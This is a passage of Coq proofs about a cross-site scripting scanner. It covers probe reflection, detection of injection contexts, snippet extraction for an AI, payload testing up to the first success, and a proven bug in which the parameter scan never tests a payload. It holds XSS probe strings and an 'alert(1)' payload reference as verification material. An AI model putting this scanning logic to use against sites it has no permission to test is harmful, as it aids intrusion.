(** The payload loop taken by itself does what is asked of it: it sends
    the requests of a prefix of the payload list, in the order of the
    list, and records one finding when it stops at a success and none
    otherwise. *)
Lemma test_payloads_stops_at_first_hit (self : XSSEngine) (param : string)
    (context : InjectionContext) (base_params : gmap string string)
    (payloads : list string) (w : World) :
  exists result w' n,
    test_payloads self param context base_params payloads w = (result, w') /\
    sent w' = (sent w ++ map (fun payload =>
                 request_of self (<[param := payload]> base_params))
                 (take n payloads))%list /\
    (result = Ok true ->
       findings_count w' = S (findings_count w) /\
       List.length (reporter_findings w')
         = (List.length (reporter_findings w) + (if reporter self then 1 else 0))%nat) /\
    (result ≠ Ok true ->
       findings_count w' = findings_count w /\
       reporter_findings w' = reporter_findings w).
Proof.
  revert w. induction payloads as [| payload rest IH]; intros w.
  - exists (Ok false), w, 0%nat. simpl. rewrite app_nil_r.
    split; [reflexivity |]. split; [reflexivity |]. split; [discriminate | done].
  - cbn [test_payloads].
    destruct (test_payload_sends_one self param payload base_params w)
      as (tres & w1 & Htest & Hs & Hc & Hr).
    assert (exists result w' n,
              test_payloads self param context base_params rest w1 = (result, w') /\
              sent w' = (sent w ++ map (fun payload =>
                 request_of self (<[param := payload]> base_params))
                 (take n (payload :: rest)))%list /\
              (result = Ok true ->
                 findings_count w' = S (findings_count w) /\
                 List.length (reporter_findings w')
                   = (List.length (reporter_findings w)
                      + (if reporter self then 1 else 0))%nat) /\
              (result ≠ Ok true ->
                 findings_count w' = findings_count w /\
                 reporter_findings w' = reporter_findings w)) as Hrest.
    { destruct (IH w1) as (result & w' & n & Hloop & Hs' & Hhit & Hmiss).
      exists result, w', (S n). rewrite <- Hc, <- Hr.
      split; [done |]. split; [| done].
      rewrite Hs', Hs. simpl. by rewrite <- app_assoc. }
    destruct tres as [[exploit_url |] | e].
    + rewrite (bind_ok _ _ _ _ _ Htest).
      destruct (truthy exploit_url); [| exact Hrest].
      exists (Ok true).
      destruct (reporter self); simpl;
        (eexists _, 1%nat; split; [reflexivity |]; simpl;
         rewrite Hs, Hc, Hr; split; [reflexivity |]; split; [| done];
         intros _; split; [reflexivity |]; try rewrite length_app; simpl; lia).
    + rewrite (bind_ok _ _ _ _ _ Htest). exact Hrest.
    + rewrite (bind_raise _ _ _ _ _ Htest).
      exists (Raise e), w1, 1%nat. split; [reflexivity |]. simpl.
      rewrite Hs. split; [reflexivity |]. split; [discriminate | done].
Qed.

(** C1 (the code departs from it).  The orchestrator is to fetch the
    payload list of each detected context and to test it in order up to
    the first success.  It does neither: whatever the server answers,
    [scan_parameter] sends the probe request and nothing else and records
    no finding, because its call of [generate] raises for the first
    context.  On a server that reflects the parameter in a paragraph the
    scan of the parameter ends in this [TypeError], whereas the first
    payload of the catalog for the detected context, had it been tested,
    would have been confirmed by the oracle. *)
Theorem scan_parameter_never_tests_a_payload :
  (forall self cls param base_params w,
     exists result w',
       scan_parameter self cls param base_params w = (result, w') /\
       List.length (sent w') = S (List.length (sent w)) /\
       findings_count w' = findings_count w /\
       reporter_findings w' = reporter_findings w /\
       (result = Ok 0%nat \/ exists e, result = Raise e)) /\
  (scan_parameter echo_engine no_ai "q" {[ "q" := "1" ]} counting_world).1
    = Raise unexpected_keyword /\
  classify "<p>XSS_PROBE_ABCDEFGHIJKL</p>" "XSS_PROBE_ABCDEFGHIJKL" "text/html"
    = {[ HTML_TEXT ]} /\
  (test_payloads echo_engine "q" HTML_TEXT {[ "q" := "1" ]}
     (payload_map HTML_TEXT "alert(1)") counting_world).1 = Ok true.
Proof.
  split; [apply scan_parameter_records_nothing |].
  repeat split; vm_compute; reflexivity.
Qed.


(** * Further properties *)

(** ** Text, continued *)

Lemma append_assoc (a b c : string) : (a +:+ b) +:+ c = a +:+ b +:+ c.
Proof.
  induction a as [| x a IH]; [reflexivity |].
  change (String x ((a +:+ b) +:+ c) = String x (a +:+ b +:+ c)). by rewrite IH.
Qed.

Lemma append_cons (x : ascii) (a b : string) : String x a +:+ b = String x (a +:+ b).
Proof. reflexivity. Qed.

Lemma append_nil_l (a : string) : EmptyString +:+ a = a.
Proof. reflexivity. Qed.

Lemma length_append (a b : string) :
  String.length (a +:+ b) = (String.length a + String.length b)%nat.
Proof.
  induction a as [| x a IH]; [reflexivity |].
  rewrite append_cons. simpl. by rewrite IH.
Qed.

Lemma startswith_spec (p s : string) :
  startswith p s = true <-> exists rest, s = p +:+ rest.
Proof.
  revert s. induction p as [| c p IH]; intros s; simpl.
  - split; [intros _; by exists s | done].
  - destruct s as [| d s]; [split; [done | intros [rest H]; discriminate] |].
    rewrite andb_true_iff, IH. split.
    + intros [Hc [rest ->]]. apply Ascii.eqb_eq in Hc as ->. by exists rest.
    + intros [rest H]. rewrite append_cons in H. injection H as -> ->.
      split; [apply Ascii.eqb_refl | by exists rest].
Qed.

Lemma contains_spec (p s : string) :
  contains p s = true <-> exists front rest, s = front +:+ p +:+ rest.
Proof.
  induction s as [| d s IH].
  - simpl. rewrite orb_false_r, startswith_spec. split.
    + intros [rest H]. by exists EmptyString, rest.
    + intros (front & rest & H). destruct front; [by exists rest | discriminate].
  - cbn [contains]. rewrite orb_true_iff, IH, startswith_spec. split.
    + intros [[rest H] | (front & rest & ->)].
      * by exists EmptyString, rest.
      * by exists (String d front), rest.
    + intros (front & rest & H). destruct front as [| e front].
      * left. by exists rest.
      * rewrite append_cons in H. injection H as -> ->. right. by exists front, rest.
Qed.

Lemma contains_suffix (p tail s : string) :
  is_suffix tail s -> contains p tail = true -> contains p s = true.
Proof.
  intros [front ->] H. by apply contains_app_r.
Qed.

Lemma contains_app_l (p s t : string) :
  contains p s = true -> contains p (s +:+ t) = true.
Proof.
  rewrite !contains_spec. intros (front & rest & ->).
  exists front, (rest +:+ t). by rewrite !append_assoc.
Qed.

Lemma is_suffix_refl (s : string) : is_suffix s s.
Proof. by exists EmptyString. Qed.

Lemma is_suffix_trans (a b c : string) : is_suffix a b -> is_suffix b c -> is_suffix a c.
Proof. intros [f1 ->] [f2 ->]. exists (f2 +:+ f1). by rewrite append_assoc. Qed.

Lemma is_suffix_cons (c : ascii) (s : string) : is_suffix s (String c s).
Proof. by exists (String c EmptyString). Qed.

(** ** Matches and the text they consume *)

Lemma run_star (greedy : bool) (r : regex) (s : string)
    (k : string -> option string) :
  run (Star greedy r) s k = star_loop greedy (run r) k (S (String.length s)) s.
Proof. reflexivity. Qed.

Lemma star_loop_suffix (greedy : bool)
    (step : string -> (string -> option string) -> option string)
    (k : string -> option string) (x : string) :
  (forall s k', step s k' = Some x -> exists tail, is_suffix tail s /\ k' tail = Some x) ->
  forall fuel s,
    star_loop greedy step k fuel s = Some x ->
    exists tail, is_suffix tail s /\ k tail = Some x.
Proof.
  intros Hstep fuel. induction fuel as [| fuel IHf]; intros s H; simpl in H.
  - exists s. split; [apply is_suffix_refl |].
    unfold or_else in H. destruct greedy; [done |]. by destruct (k s).
  - match type of H with
    | (if greedy then or_else ?again _ else _) = _ =>
        assert (again = Some x \/ k s = Some x) as [Ha | Hk]
    end.
    { unfold or_else in H. destruct greedy.
      - match type of H with match ?a with _ => _ end = _ => destruct a end;
          [left; done | right; done].
      - destruct (k s); [right; done | left; done]. }
    + apply Hstep in Ha as (s1 & Hs1 & Ha).
      destruct (String.length s1 <? String.length s)%nat; [| done].
      apply IHf in Ha as (s2 & Hs2 & Ha).
      exists s2. split; [by eapply is_suffix_trans | done].
    + exists s. split; [apply is_suffix_refl | done].
Qed.

(** A match hands to its continuation what is left of the text. *)
Lemma run_suffix (r : regex) (s : string) (k : string -> option string) (x : string) :
  run r s k = Some x -> exists tail, is_suffix tail s /\ k tail = Some x.
Proof.
  revert s k. induction r as [| accept | r1 IH1 r2 IH2 | r1 IH1 r2 IH2 | greedy r IH |];
    intros s k H.
  - exists s. split; [apply is_suffix_refl | done].
  - simpl in H. destruct s as [| c s]; [done |]. destruct (accept c); [| done].
    exists s. split; [apply is_suffix_cons | done].
  - simpl in H. apply IH1 in H as (s1 & Hs1 & H). apply IH2 in H as (s2 & Hs2 & H).
    exists s2. split; [by eapply is_suffix_trans | done].
  - simpl in H. unfold or_else in H. destruct (run r1 s k) eqn:E.
    + injection H as ->. by apply IH1 in E.
    + by apply IH2 in H.
  - rewrite run_star in H. eapply star_loop_suffix; [| exact H].
    intros s0 k' Hs0. by apply IH.
  - simpl in H. destruct (at_end s); [| done].
    exists s. split; [apply is_suffix_refl | done].
Qed.

(** A literal matches the text that starts with it, and nothing else. *)
Lemma run_lit (p s : string) (k : string -> option string) (x : string) :
  run (lit false p) s k = Some x -> exists rest, s = p +:+ rest /\ k rest = Some x.
Proof.
  revert s k. induction p as [| c p IH]; intros s k H; simpl in H.
  - by exists s.
  - destruct s as [| d s]; [done |].
    destruct (Ascii.eqb d c) eqn:E; [| done]. apply Ascii.eqb_eq in E as ->.
    apply IH in H as (rest & -> & H). by exists rest.
Qed.

Lemma needs_lit (p : string) (r : regex) : needs p (Seq (lit false p) r).
Proof.
  intros s k x H. simpl in H. apply run_lit in H as (rest & -> & _).
  apply contains_spec. by exists EmptyString, rest.
Qed.

Lemma needs_after (p : string) (r1 r2 : regex) : needs p r2 -> needs p (Seq r1 r2).
Proof.
  intros Hn s k x H. simpl in H. apply run_suffix in H as (s1 & Hs1 & H).
  eapply contains_suffix; [exact Hs1 |]. by eapply Hn.
Qed.

Lemma search_suffix (r : regex) (s g rest : string) :
  search r s = Some (g, rest) ->
  exists tail, is_suffix tail s /\ match_prefix r tail = Some rest.
Proof.
  induction s as [| c s IH]; simpl; intros H.
  - destruct (match_prefix r EmptyString) eqn:E; [| done].
    injection H as _ ->. exists EmptyString. split; [apply is_suffix_refl | done].
  - destruct (match_prefix r (String c s)) eqn:E.
    + injection H as _ ->. exists (String c s). split; [apply is_suffix_refl | done].
    + apply IH in H as (tail & Ht & H). exists tail.
      split; [| done]. eapply is_suffix_trans; [exact Ht | apply is_suffix_cons].
Qed.

(** A pattern that needs the probe is not found in a text without it. *)
Lemma found_needs (p : string) (r : regex) (s : string) :
  needs p r -> contains p s = false -> found r s = false.
Proof.
  intros Hn Hc. unfold found. apply bool_decide_eq_false. intros [[g rest] H].
  apply search_suffix in H as (tail & Ht & H).
  apply Hn in H. apply (contains_suffix _ _ _ Ht) in H. congruence.
Qed.

(** ** The detectors, one by one *)

Lemma lstrip_by_suffix (drop : ascii -> bool) (s : string) : is_suffix (lstrip_by drop s) s.
Proof.
  induction s as [| c s IH]; simpl; [apply is_suffix_refl |].
  destruct (drop c); [| apply is_suffix_refl].
  eapply is_suffix_trans; [exact IH | apply is_suffix_cons].
Qed.

Lemma rstrip_by_prefix (drop : ascii -> bool) (s : string) :
  exists dropped, s = rstrip_by drop s +:+ dropped.
Proof.
  induction s as [| c s (dropped & IH)]; simpl; [by exists EmptyString |].
  destruct (rstrip_by drop s) as [| d kept] eqn:E.
  - destruct (drop c).
    + by exists (String c s).
    + exists dropped. rewrite append_cons. by rewrite <- IH.
  - exists dropped. rewrite append_cons. by rewrite <- IH.
Qed.

(** What occurs in a stripped text occurs in the text. *)
Lemma contains_strip (p s : string) : contains p (strip s) = true -> contains p s = true.
Proof.
  unfold strip, strip_by. intros H.
  destruct (rstrip_by_prefix is_space (lstrip_by is_space s)) as [dropped Hd].
  eapply contains_suffix; [apply lstrip_by_suffix |].
  rewrite Hd. by apply contains_app_l.
Qed.

(** The patterns of the case-sensitive detectors need the probe. *)
Lemma comment_pattern_needs (p : string) : needs p (comment_pattern p).
Proof. unfold comment_pattern. simpl seqs. do 2 apply needs_after. apply needs_lit. Qed.

Lemma quoted_attr_pattern_needs (quote p : string) : needs p (quoted_attr_pattern quote p).
Proof. unfold quoted_attr_pattern. simpl seqs. do 3 apply needs_after. apply needs_lit. Qed.

Lemma unquoted_attr_pattern_needs (p : string) : needs p (unquoted_attr_pattern p).
Proof. unfold unquoted_attr_pattern. simpl seqs. do 2 apply needs_after. apply needs_lit. Qed.

Lemma attr_name_pattern_needs (p : string) : needs p (attr_name_pattern p).
Proof. unfold attr_name_pattern. simpl seqs. apply needs_lit. Qed.

(** X1.  Taken by themselves, the comment detector and the attribute
    detector report nothing for a probe that does not occur in the page,
    and the JSON detector reports nothing for it unless the content type
    names JSON. *)
Theorem case_sensitive_detectors_need_the_probe (self : ContextAnalyzer) :
  contains (probe self) (html self) = false ->
  _detect_html_comment self = ∅ /\
  _detect_attribute_contexts self = ∅ /\
  (contains "json" (content_type self) = false -> _detect_json self = ∅).
Proof.
  intros Habsent. split; [| split].
  - unfold _detect_html_comment.
    by rewrite (found_needs _ _ _ (comment_pattern_needs _) Habsent).
  - unfold _detect_attribute_contexts.
    rewrite !(found_needs _ _ _ (quoted_attr_pattern_needs _ _) Habsent),
      (found_needs _ _ _ (unquoted_attr_pattern_needs _) Habsent),
      (found_needs _ _ _ (attr_name_pattern_needs _) Habsent).
    set_solver.
  - intros Hct. unfold _detect_json. rewrite Hct.
    destruct (_ && _); [| done].
    destruct (contains (probe self) (strip (html self))) eqn:E; [| done].
    apply contains_strip in E. congruence.
Qed.

Lemma case_sensitive_detectors_need_the_probe_witness :
  contains "XSS" "<!-- xss --><a href='xss' title=xss>" = false /\
  _detect_html_comment (Analyzer.init "<!-- xss --><a href='xss' title=xss>" "XSS" "text/html") = ∅ /\
  _detect_url_param (Analyzer.init "<!-- xss --><a href='xss' title=xss>" "XSS" "text/html")
    = {[ URL_PARAM ]}.
Proof.
  split; [reflexivity |]. split.
  - destruct (case_sensitive_detectors_need_the_probe
                (Analyzer.init "<!-- xss --><a href='xss' title=xss>" "XSS" "text/html")
                eq_refl) as (H & _ & _).
    exact H.
  - vm_compute. reflexivity.
Defined.

Ltac one_of_these :=
  let H := fresh "H" in
  intros H;
  repeat match goal with
         | H : _ ∈ _ ∪ _ |- _ => apply elem_of_union in H as [H | H]
         end;
  first [ by apply not_elem_of_empty in H
        | apply elem_of_singleton in H as ->; auto 10 ].

(** Each detector reports contexts of its own only. *)
Lemma json_reports (self : ContextAnalyzer) (c : InjectionContext) :
  c ∈ _detect_json self -> c = JSON_VALUE.
Proof.
  unfold _detect_json. destruct (contains "json" _); [one_of_these |].
  destruct (_ && _); [| one_of_these]. destruct (contains _ _); one_of_these.
Qed.

Lemma script_strings_reports (self : ContextAnalyzer) (blocks : list string)
    (start : gset InjectionContext) (c : InjectionContext) :
  c ∈ foldl (fun acc script_content =>
               if found (js_string_pattern (probe self)) script_content
               then acc ∪ {[ SCRIPT_STRING ]} else acc) start blocks ->
  c ∈ start \/ c = SCRIPT_STRING.
Proof.
  revert start. induction blocks as [| b blocks IH]; intros start; simpl; [auto |].
  intros H. apply IH in H as [H | H]; [| auto].
  destruct (found _ b); [| auto].
  apply elem_of_union in H as [H | H]; [auto |].
  apply elem_of_singleton in H. auto.
Qed.

Lemma script_reports (self : ContextAnalyzer) (c : InjectionContext) :
  c ∈ _detect_script_contexts self ->
  found (block_pattern "script" (probe self)) (html self) = true /\
  (c = SCRIPT_BLOCK \/ c = SCRIPT_STRING).
Proof.
  unfold _detect_script_contexts. destruct (found _ (html self));
    [| by intros H; apply not_elem_of_empty in H].
  intros H. split; [done |]. apply elem_of_union in H as [H | H].
  - apply elem_of_singleton in H. auto.
  - apply script_strings_reports in H as [H | H]; [| auto].
    by apply not_elem_of_empty in H.
Qed.

Lemma style_reports (self : ContextAnalyzer) (c : InjectionContext) :
  c ∈ _detect_style_block self -> c = STYLE_BLOCK.
Proof. unfold _detect_style_block. destruct (_ : bool); one_of_these. Qed.

Lemma comment_reports (self : ContextAnalyzer) (c : InjectionContext) :
  c ∈ _detect_html_comment self -> c = HTML_COMMENT.
Proof. unfold _detect_html_comment. destruct (_ : bool); one_of_these. Qed.

Lemma attribute_reports (self : ContextAnalyzer) (c : InjectionContext) :
  c ∈ _detect_attribute_contexts self ->
  c = ATTR_VALUE_DOUBLE_QUOTE \/ c = ATTR_VALUE_SINGLE_QUOTE \/
  c = ATTR_VALUE_NO_QUOTE \/ c = ATTR_NAME.
Proof.
  unfold _detect_attribute_contexts.
  destruct (found (quoted_attr_pattern DQ _) _), (found (quoted_attr_pattern "'" _) _),
    (found (unquoted_attr_pattern _) _), (found (attr_name_pattern _) _); one_of_these.
Qed.

Lemma text_node_reports (self : ContextAnalyzer) (c : InjectionContext) :
  c ∈ _detect_text_node self -> c = HTML_TEXT.
Proof.
  unfold _detect_text_node. destruct (Soup.strings _) as [nodes |].
  - destruct (Soup.find_string _ _); one_of_these.
  - destruct (found _ _); one_of_these.
Qed.

Lemma url_param_reports (self : ContextAnalyzer) (c : InjectionContext) :
  c ∈ _detect_url_param self -> c = URL_PARAM.
Proof. unfold _detect_url_param. destruct (_ : bool); one_of_these. Qed.

(** The result of [detect_all] is the union of what the detectors
    report, when the probe occurs in the page. *)
Lemma elem_of_detect_all (self : ContextAnalyzer) (c : InjectionContext) :
  c ∈ detect_all self <->
  contains (probe self) (html self) = true /\
  (c ∈ _detect_json self \/ c ∈ _detect_script_contexts self \/
   c ∈ _detect_style_block self \/ c ∈ _detect_html_comment self \/
   c ∈ _detect_attribute_contexts self \/ c ∈ _detect_text_node self \/
   c ∈ _detect_url_param self).
Proof.
  unfold detect_all. destruct (contains (probe self) (html self)); simpl negb; cbv iota.
  2: { split; [intros H; by apply not_elem_of_empty in H | intros [? _]; done]. }
  cbv zeta. rewrite !elem_of_union. split.
  - intros [[[[[[[H | H] | H] | H] | H] | H] | H] | H]; [| tauto ..].
    by apply not_elem_of_empty in H.
  - intros [_ H]. tauto.
Qed.

(** X2.  The detectors share the contexts out among themselves: a context
    is in the result of [detect_all] exactly when the probe occurs in the
    page and the one detector in charge of that context reports it. *)
Theorem detect_all_by_detector (self : ContextAnalyzer) (c : InjectionContext) :
  c ∈ detect_all self <->
  contains (probe self) (html self) = true /\ c ∈ in_charge c self.
Proof.
  rewrite elem_of_detect_all. split; intros [Hp H]; (split; [done |]).
  - destruct H as [H | [H | [H | [H | [H | [H | H]]]]]];
      [ pose proof (json_reports _ _ H)
      | pose proof (proj2 (script_reports _ _ H))
      | pose proof (style_reports _ _ H)
      | pose proof (comment_reports _ _ H)
      | pose proof (attribute_reports _ _ H)
      | pose proof (text_node_reports _ _ H)
      | pose proof (url_param_reports _ _ H) ];
      destruct_or?; subst; exact H.
  - destruct c; simpl in H; tauto.
Qed.

(** X3.  The context of a JavaScript string is never reported without
    the context of the script block around it. *)
Theorem script_string_comes_with_script_block (body probe header : string) :
  SCRIPT_STRING ∈ classify body probe header ->
  SCRIPT_BLOCK ∈ classify body probe header.
Proof.
  unfold classify. rewrite !elem_of_detect_all. intros [Hp H].
  split; [done |]. right. left.
  assert (SCRIPT_STRING ∈ _detect_script_contexts (Analyzer.init body probe header)) as Hs.
  { destruct H as [H | [H | [H | [H | [H | [H | H]]]]]];
      [ pose proof (json_reports _ _ H)
      | exact H
      | pose proof (style_reports _ _ H)
      | pose proof (comment_reports _ _ H)
      | pose proof (attribute_reports _ _ H)
      | pose proof (text_node_reports _ _ H)
      | pose proof (url_param_reports _ _ H) ];
      destruct_or?; discriminate. }
  apply script_reports in Hs as [Hfound _].
  unfold _detect_script_contexts. rewrite Hfound.
  apply elem_of_union. left. by apply elem_of_singleton.
Qed.

Lemma script_string_comes_with_script_block_witness :
  SCRIPT_STRING ∈ classify "<script>var a = 'XSS_PROBE_AB12CD34EF56';</script>"
                    "XSS_PROBE_AB12CD34EF56" "text/html" /\
  SCRIPT_BLOCK ∈ classify "<script>var a = 'XSS_PROBE_AB12CD34EF56';</script>"
                   "XSS_PROBE_AB12CD34EF56" "text/html".
Proof.
  assert (SCRIPT_STRING ∈ classify "<script>var a = 'XSS_PROBE_AB12CD34EF56';</script>"
                            "XSS_PROBE_AB12CD34EF56" "text/html") as H.
  { apply (bool_decide_unpack
             (SCRIPT_STRING ∈ classify "<script>var a = 'XSS_PROBE_AB12CD34EF56';</script>"
                                "XSS_PROBE_AB12CD34EF56" "text/html")).
    vm_compute. exact I. }
  split; [exact H |].
  exact (script_string_comes_with_script_block _ _ _ H).
Defined.

(** ** Snippets *)

Lemma find_spec (p h : string) (i : nat) :
  find p h = Some i ->
  exists front rest, h = front +:+ p +:+ rest /\ String.length front = i.
Proof.
  revert i. induction h as [| c h IH]; intros i; cbn [find].
  - destruct (startswith p EmptyString) eqn:E; [| done].
    intros [= <-]. apply startswith_spec in E as [rest E]. by exists EmptyString, rest.
  - destruct (startswith p (String c h)) eqn:E.
    + intros [= <-]. apply startswith_spec in E as [rest E]. by exists EmptyString, rest.
    + destruct (find p h) as [j |]; [| done]. intros [= <-].
      destruct (IH j eq_refl) as (front & rest & -> & Hlen).
      exists (String c front), rest. split; [done | simpl; by rewrite Hlen].
Qed.

Lemma find_none (p h : string) : find p h = None <-> contains p h = false.
Proof.
  induction h as [| c h IH]; cbn [find contains].
  - destruct (startswith p EmptyString); simpl; split; done.
  - destruct (startswith p (String c h)); simpl; [split; done |].
    rewrite <- IH. destruct (find p h); simpl; split; done.
Qed.

Lemma str_drop_app (n : nat) (a b : string) :
  (n <= String.length a)%nat -> str_drop n (a +:+ b) = str_drop n a +:+ b.
Proof.
  revert a. induction n as [| n IH]; intros a H.
  - by destruct a.
  - destruct a as [| c a]; simpl in H; [lia |].
    rewrite append_cons. simpl. apply IH. lia.
Qed.

Lemma length_str_drop (n : nat) (a : string) :
  String.length (str_drop n a) = (String.length a - n)%nat.
Proof.
  revert a. induction n as [| n IH]; intros a; [destruct a; simpl; lia |].
  destruct a as [| c a]; simpl; [done | apply IH].
Qed.

Lemma str_take_app (n : nat) (a b : string) :
  (String.length a <= n)%nat ->
  str_take n (a +:+ b) = a +:+ str_take (n - String.length a) b.
Proof.
  revert n. induction a as [| c a IH]; intros n H.
  - rewrite !append_nil_l. simpl. by rewrite Nat.sub_0_r.
  - destruct n as [| n]; simpl in H; [lia |].
    rewrite !append_cons. simpl. rewrite IH by lia. done.
Qed.

Lemma length_str_take (n : nat) (a : string) :
  (String.length (str_take n a) <= n)%nat.
Proof.
  revert a. induction n as [| n IH]; intros a; [by destruct a |].
  destruct a as [| c a]; simpl; [lia |]. specialize (IH a). lia.
Qed.

Lemma str_take_drop (n : nat) (a : string) : a = str_take n a +:+ str_drop n a.
Proof.
  revert a. induction n as [| n IH]; intros a; [by destruct a |].
  destruct a as [| c a]; [done |]. simpl. rewrite append_cons. by rewrite <- IH.
Qed.

Lemma extract_snippet_spec (html probe : string) (context_chars : nat) :
  if contains probe html then
    contains probe (_extract_snippet html probe context_chars) = true /\
    contains (_extract_snippet html probe context_chars) html = true /\
    (String.length (_extract_snippet html probe context_chars)
     <= String.length probe + 2 * context_chars)%nat
  else _extract_snippet html probe context_chars = EmptyString.
Proof.
  unfold _extract_snippet. destruct (find probe html) as [i |] eqn:Hfind.
  2: { apply find_none in Hfind. by rewrite Hfind. }
  destruct (find_spec _ _ _ Hfind) as (front & rest & Hhtml & Hlen).
  assert (contains probe html = true) as ->
    by (apply contains_spec; by exists front, rest).
  assert (String.length html
          = (i + String.length probe + String.length rest)%nat) as Hsize
    by (rewrite Hhtml, !length_append; lia).
  set (start := (i - context_chars)%nat).
  set (stop := (String.length html `min` (i + String.length probe + context_chars))%nat).
  split; [| split].
  - rewrite Hhtml at 1. rewrite str_drop_app by (unfold start; lia).
    rewrite str_take_app by (rewrite length_str_drop; unfold start, stop; lia).
    apply contains_app_r.
    rewrite str_take_app
      by (rewrite length_str_drop; unfold start, stop; lia).
    apply contains_spec. exists EmptyString. eauto.
  - apply contains_spec.
    exists (str_take start html), (str_drop (stop - start) (str_drop start html)).
    rewrite (str_take_drop start html) at 1. f_equal. apply str_take_drop.
  - pose proof (length_str_take (stop - start) (str_drop start html)).
    unfold start, stop in *. lia.
Qed.

(** X4.  The snippet cut out for the AI: when the probe occurs in the
    page the snippet holds the probe, is a piece of the page, and is at
    most [context_chars] longer than the probe on either side; when the
    probe does not occur the snippet is empty. *)
Theorem extract_snippet_holds_the_probe (html probe : string) (context_chars : nat) :
  if contains probe html then
    contains probe (_extract_snippet html probe context_chars) = true /\
    contains (_extract_snippet html probe context_chars) html = true /\
    (String.length (_extract_snippet html probe context_chars)
     <= String.length probe + 2 * context_chars)%nat
  else _extract_snippet html probe context_chars = EmptyString.
Proof. apply extract_snippet_spec. Qed.

(** ** What a reflection result holds *)

(** X5.  When [_test_reflection] reports a reflection, the response it
    hands on has no error status and holds the probe, the probe was sent
    as the value of the parameter under test, the contexts are the ones
    the classifier finds for that response, each once and at least one,
    and both snippets hold the probe. *)
Theorem test_reflection_result (self : XSSEngine) (param : string)
    (base_params : gmap string string) (w w' : World)
    (probe : string) (response : Response) (contexts : list InjectionContext)
    (html_snippet response_snippet : string) :
  _test_reflection self param base_params w
    = (Ok (Some (probe, response, contexts, html_snippet, response_snippet)), w') ->
  network self (sent w) (request_of self (<[param := probe]> base_params))
    = Replied response /\
  sent w' = (sent w ++ [request_of self (<[param := probe]> base_params)])%list /\
  ok response = true /\
  contains probe (text response) = true /\
  contexts ≠ [] /\ NoDup contexts /\
  (forall c, c ∈ contexts <->
     c ∈ classify (text response) probe
           (default EmptyString (header_content_type response))) /\
  contains probe html_snippet = true /\
  contains probe response_snippet = true.
Proof.
  unfold _test_reflection.
  destruct (generate_probe_total w) as (probe0 & w1 & Hp & Hs & _ & _ & _).
  rewrite (bind_ok _ _ _ _ _ Hp).
  unfold _send_request. unfold mbind at 1 2. unfold M_bind, bind. simpl record_request.
  cbv beta iota. rewrite Hs.
  destruct (network self (sent w) _) as [response0 | e] eqn:Hnet.
  2: { destruct e; simpl; intros [=]. }
  simpl.
  destruct (ok response0) eqn:Hok; simpl; [| intros [=]].
  destruct (contains probe0 (text response0)) eqn:Hc; simpl; [| intros [=]].
  destruct (elements _) as [| c0 rest] eqn:Hel; simpl; intros [= <- <- <- <- <- <-].
  pose proof (extract_snippet_spec (text response0) probe0 200) as H200.
  pose proof (extract_snippet_spec (text response0) probe0 500) as H500.
  rewrite Hc in H200, H500.
  split; [exact Hnet |]. split; [simpl; by rewrite Hs |].
  split; [done |]. split; [done |]. split; [done |].
  split; [rewrite <- Hel; apply NoDup_elements |].
  split; [intros c; rewrite <- Hel; apply elem_of_elements |].
  split; [apply H200 | apply H500].
Qed.

Lemma test_reflection_result_witness :
  _test_reflection echo_engine "q" {[ "q" := "1" ]} counting_world
    = (Ok (Some ("XSS_PROBE_ABCDEFGHIJKL",
                 {| status_code := 200; text := "<p>XSS_PROBE_ABCDEFGHIJKL</p>";
                    url := "http://target/?q=XSS_PROBE_ABCDEFGHIJKL";
                    header_content_type := Some "text/html" |},
                 [HTML_TEXT],
                 "<p>XSS_PROBE_ABCDEFGHIJKL</p>", "<p>XSS_PROBE_ABCDEFGHIJKL</p>")),
       (_test_reflection echo_engine "q" {[ "q" := "1" ]} counting_world).2) /\
  NoDup [HTML_TEXT] /\
  contains "XSS_PROBE_ABCDEFGHIJKL" "<p>XSS_PROBE_ABCDEFGHIJKL</p>" = true.
Proof.
  assert (_test_reflection echo_engine "q" {[ "q" := "1" ]} counting_world
    = (Ok (Some ("XSS_PROBE_ABCDEFGHIJKL",
                 {| status_code := 200; text := "<p>XSS_PROBE_ABCDEFGHIJKL</p>";
                    url := "http://target/?q=XSS_PROBE_ABCDEFGHIJKL";
                    header_content_type := Some "text/html" |},
                 [HTML_TEXT],
                 "<p>XSS_PROBE_ABCDEFGHIJKL</p>", "<p>XSS_PROBE_ABCDEFGHIJKL</p>")),
       (_test_reflection echo_engine "q" {[ "q" := "1" ]} counting_world).2)) as E
    by (vm_compute; reflexivity).
  split; [exact E |].
  destruct (test_reflection_result _ _ _ _ _ _ _ _ _ _ E)
    as (_ & _ & _ & _ & _ & Hnodup & _ & Hsnippet & _).
  split; [exact Hnodup | exact Hsnippet].
Defined.

(** ** Responses with an error status, and exceptions of other classes *)

(** X6.  A response with a 4xx or 5xx status counts as no response at
    all: whatever its body reflects, a payload answered that way is no
    success, and a probe answered that way is no reflection, so that the
    scan of the parameter returns 0. *)
Theorem error_status_counts_as_no_response (self : XSSEngine)
    (param : string) (base_params : gmap string string) (w : World) :
  (forall value, exists response,
     network self (sent w) (request_of self (<[param := value]> base_params))
       = Replied response /\
     (400 <= status_code response < 600)%nat) ->
  (forall payload, (_test_payload self param payload base_params w).1 = Ok None) /\
  (_test_reflection self param base_params w).1 = Ok None /\
  (forall cls, (scan_parameter self cls param base_params w).1 = Ok 0%nat).
Proof.
  intros Hnet.
  assert (forall value w0, sent w0 = sent w ->
            exists response,
              _send_request self (<[param := value]> base_params) w0
                = (Ok (Some response), after_request self (<[param := value]> base_params) w0)
              /\ ok response = false) as Hsend.
  { intros value w0 Hs. destruct (Hnet value) as (response & Hr & Hstatus).
    exists response. split.
    - apply send_request_replied. by rewrite Hs.
    - unfold ok. apply negb_false_iff, andb_true_iff.
      split; [apply Nat.leb_le | apply Nat.ltb_lt]; lia. }
  assert (forall w0, sent w0 = sent w ->
            exists w1, _test_reflection self param base_params w0 = (Ok None, w1)) as Hrefl.
  { intros w0 Hs0. unfold _test_reflection.
    destruct (generate_probe_total w0) as (probe & w1 & Hp & Hs & _).
    rewrite (bind_ok _ _ _ _ _ Hp).
    destruct (Hsend probe w1 ltac:(congruence)) as (response & Hr & Hok).
    rewrite (bind_ok _ _ _ _ _ Hr), Hok. simpl. eauto. }
  split; [| split].
  - intros payload. unfold _test_payload.
    destruct (Hsend payload w eq_refl) as (response & Hr & Hok).
    by rewrite (bind_ok _ _ _ _ _ Hr), Hok.
  - destruct (Hrefl w eq_refl) as (w1 & ->). done.
  - intros cls. unfold scan_parameter. rewrite !bind_say.
    destruct (Hrefl (say InjectingProbe (say (TestingParameter param) w).2).2 eq_refl)
      as (w1 & Hr).
